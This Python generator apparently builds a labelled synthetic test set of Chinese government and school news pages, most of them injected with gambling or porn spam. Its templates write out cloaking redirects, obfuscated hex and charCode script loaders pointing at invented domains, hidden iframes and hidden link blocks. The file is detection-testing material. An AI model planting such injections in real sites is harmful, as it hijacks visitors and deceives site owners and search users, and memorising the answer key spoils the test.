#!/usr/bin/env python3
"""v23 synthetic held-out set: 40 pages (28 hijacked, 12 clean incl. 4 legit).
Fixed seed; writes ../synthetic-v23/ next to this folder. Byte-identical re-runs."""
import json, os, random

SEED = 230423
HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.join(os.path.dirname(HERE), "synthetic-v23")

ARTICLES = [
 ("关于开展2026年秋季校园消防安全检查的通知", "校保卫处", "陈晓岚", ["为切实做好秋季学期校园消防安全工作，学校决定于本月开展全面消防安全检查。", "检查范围包括教学楼、实验室、学生宿舍和食堂等重点区域，各单位须对照清单逐项自查。", "对检查中发现的隐患，相关单位应在五个工作日内完成整改并报保卫处备案。"]),
 ("县农业农村局召开秋粮收购工作推进会", "县农业农村局", "龚立新", ["近日，县农业农村局召开秋粮收购工作推进会，部署全县秋粮收购有关工作。", "会议要求各乡镇加强收购网点巡查，严格执行最低收购价政策，不得压级压价。", "会议还就烘干设备调度、仓储安全等事项作了具体安排。"]),
 ("我院举办青年教师教学能力提升研修班", "教师发展中心", "沈雨桐", ["为提高青年教师课堂教学水平，我院于上周举办为期三天的教学能力提升研修班。", "研修班邀请省级教学名师围绕课程设计、课堂互动与教学评价作专题讲座。", "参训教师表示，将把所学方法运用到新学期的课堂教学之中。"]),
 ("市生态环境局通报第三季度空气质量状况", "市生态环境局", "韦正阳", ["第三季度全市空气质量优良天数比例为百分之八十九点二，同比上升二点一个百分点。", "细颗粒物平均浓度同比下降，臭氧污染仍是影响夏季空气质量的主要因素。", "下一步将继续推进工业源治理和扬尘管控，确保完成年度目标任务。"]),
 ("街道开展老年人防范电信诈骗宣传活动", "城关街道办事处", "欧阳敏", ["为提升辖区老年人防骗意识，街道联合派出所在社区广场开展防范电信诈骗宣传活动。", "民警结合真实案例讲解冒充客服、虚假投资理财等常见诈骗手法。", "活动现场发放宣传资料六百余份，解答群众咨询八十余人次。"]),
 ("学校图书馆新增古籍数字化资源库", "图书馆", "许知远", ["学校图书馆近日完成古籍数字化资源库建设并向全校师生开放。", "资源库收录馆藏善本、地方志等文献一千二百余种，支持全文检索和图像浏览。", "师生可通过校园网统一身份认证登录使用。"]),
 ("区人社局发布高校毕业生就业见习岗位", "区人力资源和社会保障局", "潘海宁", ["区人社局近日发布今年第二批高校毕业生就业见习岗位共计三百二十个。", "见习岗位涵盖机关事业单位、国有企业和部分民营企业，见习期一般为三至十二个月。", "符合条件的见习人员可按规定享受见习补贴。"]),
 ("镇卫生院开展秋季义诊进村活动", "镇卫生院", "蓝思琪", ["镇卫生院组织医护人员深入偏远村组开展秋季义诊活动。", "义诊内容包括血压血糖测量、慢性病用药指导和健康生活方式宣教。", "卫生院将建立随访台账，对重点人群定期开展上门服务。"]),
 ("市图书馆举办地方文献展", "市文化广电旅游局", "林佩瑶", ["市图书馆日前举办地方文献专题展，展出方志、家谱、碑帖拓片等文献二百余件。", "展览按历史沿革、人物风物、乡土记忆三个单元布展。", "展期持续至年底，市民可免费参观。"]),
 ("我校学子在全国大学生数学建模竞赛中获佳绩", "数学与统计学院", "杜明轩", ["在近日揭晓的全国大学生数学建模竞赛中，我校学子获国家二等奖两项。", "参赛队伍在七十二小时内完成建模、求解和论文撰写。", "学院将进一步完善竞赛指导体系，提升学生创新实践能力。"]),
 ("县水利局开展汛后水库安全检查", "县水利局", "邱振华", ["汛期结束后，县水利局组织技术人员对全县中小型水库开展安全检查。", "检查重点为大坝结构、溢洪道和放水设施运行情况。", "对发现的问题已建立清单，明确整改责任人和时限。"]),
 ("区市场监管局开展秋季校园食品安全专项检查", "区市场监督管理局", "贺佳音", ["开学以来，区市场监管局对辖区学校食堂及周边食品经营户开展专项检查。", "执法人员重点检查原料进货查验、留样记录和从业人员健康证明。", "共检查学校食堂四十六家，责令整改问题十二处。"]),
 ("学院召开研究生培养工作会议", "研究生院", "晏博文", ["学院召开研究生培养工作会议，总结上一年度培养质量情况。", "会议讨论了导师遴选、中期考核和学位论文质量监控等事项。", "与会人员就加强过程管理提出了意见建议。"]),
 ("社区开展垃圾分类入户指导", "南湖社区居委会", "周可欣", ["社区志愿者近期分组入户开展垃圾分类指导。", "志愿者向居民讲解厨余垃圾与其他垃圾的区分方法，并发放分类垃圾袋。", "社区将每月评选垃圾分类示范户。"]),
]
LEGIT = [
 ("省福彩中心通报即开型彩票销售管理专项检查情况", "省福利彩票发行中心", "谭思远", ["省福彩中心近日通报即开型福利彩票销售管理专项检查情况。", "检查发现个别销售站点存在向未成年人售票的问题，已按规定暂停其销售资格。", "中心要求各地严格落实不得向未成年人销售彩票的规定，并在站点显著位置张贴提示。"]),
 ("市公安局破获一起跨境网络赌博案", "市公安局", "柯建国", ["市公安局近日破获一起跨境网络赌博案件，抓获犯罪嫌疑人十四名。", "经查，该团伙通过社交软件招揽参赌人员，为境外赌博网站提供资金结算服务。", "警方提醒，网络赌博违法，切勿参与，发现线索可及时向公安机关举报。"]),
 ("体彩公益金资助乡村学校体育设施建设", "市体育局", "曹文静", ["今年市体育局使用体育彩票公益金资助二十所乡村学校改善体育设施。", "资助项目包括塑胶跑道铺设、篮球场改造和体育器材配备。", "体彩公益金按照来之于民、用之于民的原则使用，接受社会监督。"]),
 ("我校法学院举办防范网络赌博专题讲座", "法学院", "黎安然", ["法学院邀请公安机关民警为在校学生举办防范网络赌博专题讲座。", "讲座结合案例分析了网络赌博的常见引流方式和法律后果。", "学院提醒同学们不参与、不传播、不为赌博活动提供银行卡。"]),
]
# invented brands (checked against every dev/heldout spam_strings entry by validate_v23.py)
BRANDS = ["沧澜国际娱乐", "翠屿棋牌", "金麒麟体育", "星汐真人", "锦瀚彩票", "雾凇电竞", "琥珀娱乐城", "霁月视讯", "朱鹮百家乐", "峦岳体育", "汀兰开元", "玄圭捕鱼"]
DOMS = ["cangl%d.vip", "cuiyu%d.cc", "jql%d.top", "xingxi%d.xyz", "jinhan%d.net", "wusong%d.bet", "hupo%d.club", "jiyue%d.app", "zhuhuan%d.live", "luanyue%d.win", "tinglan%d.fun", "xuangui%d.pro"]
PORN = ["午夜私密影院免费看", "成人直播间一对一", "高清无码在线观看入口"]

def esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")

# ---- injection forms; each returns (where, html, spam_strings, title_override)
def inj_hidden_div(r, b, d):
    s = f"{b}官网注册送彩金"
    links = "".join(f'<a href="https://{d}/?r={r.randint(100,999)}">{s if i==0 else b+"平台"+str(i)}</a>' for i in range(3))
    return "body", f'<div style="position:absolute;top:-9999px;left:-9999px">{links}</div>', [s, b]
def inj_display_none(r, b, d):
    s = f"{b}在线投注"
    return "foot", f'<div class="lnk" style="display:none"><a href="https://{d}/">{s}</a> <a href="https://{d}/m">{b}手机版</a></div>', [s, b]
def inj_docwrite(r, b, d):
    s = f"{b}首存百分百赠送"
    return "head", f"<script>document.write('<div style=\"display:none\"><a href=\"https://{d}\">{s}</a></div>');</script>", [s]
def inj_ua_cloak(r, b, d):
    return "head", ('<script>var ua=navigator.userAgent.toLowerCase();var rf=document.referrer;'
                    f'if(/baiduspider|sogou|360spider/.test(ua)==false&&/baidu|sogou|so\\.com|sm\\.cn/.test(rf)){{window.location.href="https://{d}/";}}</script>'), [d]
def inj_hex_loader(r, b, d):
    url = f"https://{d}/j.js"
    hx = "".join("\\x%02x" % ord(c) for c in url)
    return "foot", f'<script>var _0x1a=["{hx}"];var s=document.createElement("script");s.src=_0x1a[0];document.body.appendChild(s);</script>', []
def inj_charcode(r, b, d):
    src = f'<script src="https://{d}/c.js"></script>'
    codes = ",".join(str(ord(c)) for c in src)
    return "head", f"<script>document.write(String.fromCharCode({codes}));</script>", []
def inj_meta_refresh(r, b, d):
    return "head", f'<meta http-equiv="refresh" content="0;url=https://{d}/">', [d]
def inj_spam_title(r, b, d):
    t = f"{b}-{b}官方网站-{r.choice(['真人百家乐','体育投注','彩票平台'])}"
    return "title", None, [t]
def inj_body_line(r, b, d):
    s = f"{b}，注册即送88元，点击进入{d}"
    return "body", f"<p>{esc(s)}</p>", [s]
def inj_friend_links(r, b, d):
    s1, s2 = f"{b}", f"{b}开户"
    return "foot", f'<div class="yqlj"><span>友情链接：</span><a href="https://{d}">{s1}</a> | <a href="https://{d}/kh">{s2}</a> | <a href="https://www.gov.cn">中国政府网</a></div>', [s2, s1]
def inj_porn_line(r, b, d):
    s = r.choice(PORN)
    return "body", f'<p style="font-size:0px;color:#fff">{s} {d}</p>', [s]
def inj_iframe(r, b, d):
    return "foot", f'<iframe src="https://{d}/i.html" width="0" height="0" frameborder="0"></iframe>', []
def inj_credit(r, b, d):
    s = f"本站由{b}技术支持"
    return "foot", f'<p class="pw">{s}</p>', [s]
def inj_trad_line(r, b, d):
    s = f"{b}娛樂城 真人視訊 線上投注"
    return "body", f"<p>{s}</p>", [s]

FORMS = [("hidden-div-links", inj_hidden_div), ("display-none-links", inj_display_none), ("document-write", inj_docwrite),
         ("ua-referrer-cloak", inj_ua_cloak), ("hex-js-loader", inj_hex_loader), ("charcode-js-loader", inj_charcode),
         ("meta-refresh", inj_meta_refresh), ("spam-title", inj_spam_title), ("spam-body-line", inj_body_line),
         ("friend-links-block", inj_friend_links), ("porn-keyword-line", inj_porn_line), ("hidden-iframe", inj_iframe),
         ("brand-credit", inj_credit), ("traditional-spam-line", inj_trad_line)]

# ---- 6 templates
def byline(tpl, r, date, src, au, views):
    if tpl == 0: return f'<div class="xq-info">发布日期：{date}&nbsp;&nbsp;信息来源：{src}&nbsp;&nbsp;撰稿：{au}&nbsp;&nbsp;点击：{views}</div>'
    if tpl == 1: return (f'<table class="xxgk-meta"><tr><th>索引号</th><td>11{r.randint(100000,999999)}/2026-{r.randint(10000,99999)}</td><th>发布机构</th><td>{src}</td></tr>'
                         f'<tr><th>成文日期</th><td>{date}</td><th>作者</th><td>{au}</td></tr></table>')
    if tpl == 2: return f'<p class="artSub"><span>【来源：{src}】</span><span>【作者：{au}】</span><span>【时间：{date}】</span><span>【阅读：{views}次】</span></p>'
    if tpl == 3: return f'<div class="pubinfo"><em>{date.replace("-", "年", 1).replace("-", "月")}日</em> 来源:{src} 编辑:{au} 浏览次数:{views}</div>'
    if tpl == 4: return f'<ul class="meta-row"><li>时间：{date}</li><li>来源：{src}</li><li>作者：{au}</li></ul>'
    return f'<div class="sj-bar">{src} | {au} | {date} | 浏览 {views}</div>'

SHELLS = [
 ("qingyun-gov", "utf-8", '<div id="topbar">政务服务 | 互动交流 | 无障碍</div><div class="navwrap"><a href="/">首页</a><a href="/zwgk/">政务公开</a><a href="/bsfw/">办事服务</a></div>', '<div id="ft">主办单位：{site}&nbsp;网站标识码：{code}&nbsp;ICP备案号：{icp}</div>'),
 ("xxgk-table", "gb18030", '<div class="gk-head">政府信息公开专栏</div><div class="gk-crumb">当前位置：信息公开 &gt; 工作动态</div>', '<div class="gk-foot">{site} 版权所有 {icp}</div>'),
 ("campus-blue", "utf-8", '<header class="xy-top"><div class="logo">{site}</div><nav><a href="/">学校首页</a><a href="/xyxw/">校园新闻</a><a href="/tzgg/">通知公告</a></nav></header>', '<footer class="xy-ft">地址：{site} 邮编：{code} {icp}</footer>'),
 ("county-portal-gbk", "gbk", '<table width="1000" align="center"><tr><td class="dh"><a href="/">网站首页</a> | <a href="/xwzx/">新闻中心</a> | <a href="/zfxxgk/">信息公开</a></td></tr></table>', '<table width="1000" align="center"><tr><td class="bq">Copyright {site} {icp} 网站标识码{code}</td></tr></table>'),
 ("dept-flat", "utf-8", '<div class="dept-hd"><h2>{site}</h2></div><div class="dept-menu"><span>首页</span><span>部门动态</span><span>通知公告</span></div>', '<div class="dept-ft"><p>{site}</p><p>{icp}</p></div>'),
 ("township-card", "utf-8", '<div class="tc-banner">{site}</div><div class="tc-path">首页 » 镇村动态</div>', '<div class="tc-bottom">技术维护：{site}信息中心 | {icp}</div>'),
]
SITES = ["清远县人民政府", "江澜市教育局", "北岸师范学院", "云岭县人民政府", "东湖区人社局", "枫桥镇人民政府"]
HOSTS = ["www.qingyuanx.gov.cn", "jyj.jianglan.gov.cn", "www.beiansf.edu.cn", "www.yunlingx.gov.cn", "rsj.donghuqu.gov.cn", "fqz.fengqiao.gov.cn"]

def page(r, idx, tpl, art, forms, brand, dom):
    title, src, au, paras = art
    site = SITES[tpl]
    date = f"2026-{r.randint(1,11):02d}-{r.randint(1,28):02d}"
    views = r.randint(30, 9000)
    head_inj, body_inj_top, body_inj_mid, foot_inj = [], [], [], []
    spam, ptitle, evidence = [], f"{title}_{site}", []
    EV = {"hex-js-loader": "_0x1a", "charcode-js-loader": "String.fromCharCode", "hidden-iframe": 'width="0" height="0"'}
    for name, fn in forms:
        res = fn(r, brand, dom)
        where, frag, ss = res
        spam += ss
        evidence.append(ss[0] if ss else EV[name])
        if where == "title":
            ptitle = ss[0] + "_" + title if r.random() < 0.5 else ss[0]
            continue
        if where == "head": head_inj.append(frag)
        elif where == "foot": foot_inj.append(frag)
        else: (body_inj_top if r.random() < 0.5 else body_inj_mid).append(frag)
    shell = SHELLS[tpl]
    fmt = dict(site=site, code=f"{r.randint(1000000000,9999999999)}", icp=f"ICP备{r.randint(10000000,99999999)}号")
    ps = [f"<p>{esc(p)}</p>" for p in paras]
    mid = len(ps) // 2 + 1
    body_ps = ps[:mid] + body_inj_mid + ps[mid:]
    enc = shell[1]
    html = (f'<!DOCTYPE html>\n<html lang="zh-CN"><head><meta charset="{enc}">\n<title>{esc(ptitle)}</title>\n'
            + "\n".join(head_inj) + f'\n<link rel="stylesheet" href="/css/{shell[0]}.css"></head>\n<body class="{shell[0]}">\n'
            + shell[2].format(**fmt) + "\n" + "\n".join(body_inj_top)
            + f'\n<div class="art-main"><h1 class="art-t">{esc(title)}</h1>\n' + byline(tpl, r, date, src, au, views)
            + '\n<div class="art-body" id="zoom">\n' + "\n".join(body_ps) + "\n</div></div>\n"
            + shell[3].format(**fmt) + "\n" + "\n".join(foot_inj) + "\n</body></html>\n")
    return html, date, spam, enc, site, evidence

def main():
    r = random.Random(SEED)
    os.makedirs(os.path.join(OUT, "html"), exist_ok=True)
    rows = []
    plan = [("hij", i) for i in range(28)] + [("clean", i) for i in range(8)] + [("legit", i) for i in range(4)]
    order = list(range(40)); r.shuffle(order)
    for n, k in enumerate(order, 1):
        kind, i = plan[k]
        tpl = (k * 5) % 6
        if kind == "legit": art = LEGIT[i]
        else: art = ARTICLES[(k * 7) % len(ARTICLES)]
        forms = []
        bi = k % len(BRANDS)
        brand, dom = BRANDS[bi], DOMS[bi] % r.randint(10, 99)
        if kind == "hij":
            forms = [FORMS[i % len(FORMS)]]
            if i >= 14: forms.append(FORMS[(i * 3 + 5) % len(FORMS)])
            if forms[-1] == forms[0] and len(forms) == 2: forms.pop()
        pid = f"sy23-{n:03d}"
        html, date, spam, enc, site, evidence = page(r, n, tpl, art, forms, brand, dom)
        spam = list(dict.fromkeys(spam))
        with open(os.path.join(OUT, "html", pid + ".html"), "wb") as f:
            f.write(html.encode(enc))
        rows.append(dict(id=pid, url=f"https://{HOSTS[tpl]}/art/2026/{n:04d}.html", title=art[0], date=date, source=art[1], author=art[2],
                         text="\n".join(art[3]), hijacked=kind == "hij", injections=[f[0] for f in forms], spam_strings=spam,
                         legit=kind == "legit", lang="zh", origin="synthetic-generator-v23", kind="synthetic", site=site,
                         capture="html", encoding=enc, template=SHELLS[tpl][0], evidence=evidence))
    with open(os.path.join(OUT, "truth.jsonl"), "w", encoding="utf-8") as f:
        for row in rows: f.write(json.dumps(row, ensure_ascii=False) + "\n")

if __name__ == "__main__":
    main()
